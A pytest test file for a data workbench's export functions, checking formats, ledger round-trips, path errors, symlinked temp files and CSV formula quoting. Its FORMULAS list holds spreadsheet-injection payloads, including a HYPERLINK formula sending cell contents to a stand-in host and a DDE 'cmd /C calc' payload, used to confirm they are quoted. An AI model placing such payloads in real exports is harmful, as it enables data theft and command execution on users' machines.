"""Exports: a format that does not exist writes nothing; the ones that do read back."""

from __future__ import annotations

import pandas as pd
import pytest

from workbench import Conductor


class TestExport:
    def test_unknown_format_is_an_export_error(self, tmp_path):
        from workbench.errors import ExportError
        from workbench.export import export_frame

        with pytest.raises(ExportError, match="unknown export format 'txt'"):
            export_frame(pd.DataFrame({"a": [1]}), tmp_path / "x.txt")
        assert list(tmp_path.iterdir()) == []

    def test_a_ledger_as_jsonl_is_the_ledger_files_bytes(self, tmp_path):
        from workbench.engine.ledger import JsonlLedgerStore
        from workbench.export import export_ledger

        result = Conductor.from_config("config", "town-square").run()
        path = export_ledger(result, tmp_path / "run.jsonl")
        assert path.read_text() == result.ledger.to_jsonl()
        assert JsonlLedgerStore.verify(path).final_hash == result.final_hash

    def test_a_frame_with_dicts_as_parquet_and_csv(self, tmp_path):
        from workbench.export import export_ledger

        result = Conductor.from_config("config", "town-square").run()
        for suffix, read in (("parquet", pd.read_parquet), ("csv", pd.read_csv)):
            back = read(export_ledger(result, tmp_path / f"run.{suffix}"))
            assert len(back) == len(result.ledger)
            assert back["hash"].iloc[-1] == result.final_hash
            assert '"scenario":"town-square"' in back["payload"].iloc[0]


FORMULAS = ['=HYPERLINK("http://x.test/?q="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


class TestFormulaCells:
    """Issue 23 item 3: text a spreadsheet would run is quoted in every CSV written."""

    def test_formula_cells_are_quoted_and_plain_values_kept(self, tmp_path):
        from workbench.export import export_frame

        frame = pd.DataFrame({"text": [*FORMULAS, "-5", "+1.5e3", "a=b", "plain"],
                              "n": list(range(10))})
        back = pd.read_csv(export_frame(frame, tmp_path / "t.csv"), keep_default_na=False)
        assert list(back["text"]) == ["'" + f for f in FORMULAS] + ["-5", "+1.5e3", "a=b",
                                                                   "plain"]
        assert list(back["n"]) == list(range(10))

    def test_jsonl_and_parquet_keep_the_values_exact(self, tmp_path):
        from workbench.export import export_frame

        frame = pd.DataFrame({"text": FORMULAS})
        assert list(pd.read_parquet(export_frame(frame, tmp_path / "t.parquet"))["text"]) \
            == FORMULAS
        assert list(pd.read_json(export_frame(frame, tmp_path / "t.jsonl"), lines=True)[
            "text"]) == FORMULAS

    def test_a_tool_error_that_starts_a_formula_is_quoted_in_the_calls_export(self, tmp_path):
        from workbench.engine.hand_calls import HandCalls
        from workbench.errors import ToolCallError
        from workbench.export import export_frame
        from workbench.frames import calls_frame
        from workbench.tools.registry import ToolRegistry

        def evil() -> dict:
            raise ToolCallError("tool_error", FORMULAS[0], "evil")

        registry = ToolRegistry()
        registry.register("evil", "Fails with a formula.", evil)

        class Grants:
            tools = ["evil"]

        hand = HandCalls()
        hand.call(registry, "agent", Grants(), "evil", {})
        frame = calls_frame(hand.ledger)
        assert any(str(d).startswith("=") for d in frame["detail"])
        text = export_frame(frame, tmp_path / "calls.csv").read_text()
        assert "'=HYPERLINK" in text
        assert ",=HYPERLINK" not in text and "\n=HYPERLINK" not in text


class TestPlantedTempFiles:
    """Issue 23 item 4: nothing planted beside the target is written through."""

    @pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
    def test_a_symlink_at_the_old_temp_name_is_not_followed(self, tmp_path, suffix):
        from workbench.export import export_frame, export_ledger

        victim = tmp_path / "victim.txt"
        victim.write_text("precious\n")
        target = tmp_path / f"out.{suffix}"
        (tmp_path / f".out.{suffix}.tmp").symlink_to(victim)
        export_frame(pd.DataFrame({"a": [1]}), target)
        result = Conductor.from_config("config", "town-square").run(ticks=1)
        export_ledger(result, target)
        assert victim.read_text() == "precious\n"
        assert target.exists() and not target.is_symlink()
        assert (tmp_path / f".out.{suffix}.tmp").is_symlink()  # left as it was found
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
            [".out." + suffix + ".tmp", "out." + suffix, "victim.txt"])

    def test_the_atomic_writer_leaves_nothing_when_the_writer_fails(self, tmp_path):
        from workbench.atomic import atomic_writer

        target = tmp_path / "t.txt"
        target.write_text("old\n")
        with pytest.raises(RuntimeError), atomic_writer(target) as fh:
            fh.write("half")
            raise RuntimeError("boom")
        assert target.read_text() == "old\n" and sorted(tmp_path.iterdir()) == [target]


class TestWhereAnExportCannotGo:
    """Issue 23 item 10: a directory, or a path under a missing directory or a file."""

    def test_a_directory_is_one_line_naming_it(self, tmp_path):
        from workbench.errors import ExportError
        from workbench.export import export_frame

        (tmp_path / "out.csv").mkdir()
        with pytest.raises(ExportError) as caught:
            export_frame(pd.DataFrame({"a": [1]}), tmp_path / "out.csv")
        assert "is a directory" in str(caught.value) and str(tmp_path) in str(caught.value)
        assert list((tmp_path / "out.csv").iterdir()) == []

    def test_under_a_missing_directory_is_one_line_and_creates_nothing(self, tmp_path):
        from workbench.errors import ExportError
        from workbench.export import export_ledger

        result = Conductor.from_config("config", "town-square").run(ticks=1)
        with pytest.raises(ExportError, match="does not exist; create the directory first"):
            export_ledger(result, tmp_path / "nope" / "run.jsonl")
        assert list(tmp_path.iterdir()) == []

    def test_under_a_file_is_one_line(self, tmp_path):
        from workbench.errors import ExportError
        from workbench.export import export_frame

        (tmp_path / "f").write_text("x")
        with pytest.raises(ExportError, match="is a file, not a directory"):
            export_frame(pd.DataFrame({"a": [1]}), tmp_path / "f" / "out.parquet")
